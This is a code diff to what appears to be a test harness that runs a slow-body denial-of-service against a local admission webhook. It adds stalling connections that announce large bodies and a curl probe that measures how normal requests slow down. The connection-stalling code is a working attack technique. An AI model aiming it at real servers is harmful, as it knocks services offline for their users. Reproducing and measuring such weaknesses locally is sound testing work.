@@ -178,6 +178,14 @@ def admit(port, body, timeout=30):
     return status, allowed, code, elapsed, len(answer)
 
 
+def probe(port, body_file):
+    """A normal review on a new connection from another process (curl), so the attack's threads do not delay it."""
+    out = subprocess.run(["curl", "-sk", "--http1.1", "-o", "/dev/null", "-w", "%{http_code} %{time_total}",
+                          "-H", "Content-Type: application/json", "--data-binary", "@" + body_file,
+                          f"https://127.0.0.1:{port}/apply-poddefault"], capture_output=True, text=True, timeout=60).stdout.split()
+    return int(out[0]), float(out[1])
+
+
 def sample_rss(server, stop, samples):
     while not stop.is_set() and server.alive():
         samples.append(server.rss_mb())
@@ -192,9 +200,13 @@ def slow_bodies(server, args):
     stop = threading.Event()
     answers = {}
     lock = threading.Lock()
+    stalls_once = args.once
 
     def stall():
         while not stop.is_set():
+            if stalls_once and answers:
+                stop.wait()
+                return
             try:
                 tls = connect(server.port, args.duration + 30)
                 tls.sendall(f"POST /apply-poddefault HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
@@ -216,9 +228,12 @@ def slow_bodies(server, args):
         attacker.start()
     time.sleep(1)
     latencies, statuses = [], {}
+    body_file = os.path.join(server.folder, "normal.json")
+    with open(body_file, "wb") as f:
+        f.write(normal)
     until = time.monotonic() + args.duration
     while time.monotonic() < until:
-        status, allowed, _, elapsed, _ = admit(server.port, normal)
+        status, elapsed = probe(server.port, body_file)
         statuses[status] = statuses.get(status, 0) + 1
         latencies.append(elapsed)
         time.sleep(0.5)
@@ -285,6 +300,7 @@ def main():
     parser.add_argument("--announce", type=int, default=19922944, help="Content-Length the stalled bodies announce")
     parser.add_argument("--send", type=int, default=0, help="bytes each stalled body sends before it stalls")
     parser.add_argument("--duration", type=float, default=20)
+    parser.add_argument("--once", action="store_true", help="each stalled connection stalls once (no reconnect)")
     parser.add_argument("--after", type=float, default=10)
     parser.add_argument("--containers", type=int, default=100_000)
     parser.add_argument("--parallel", type=int, default=1)
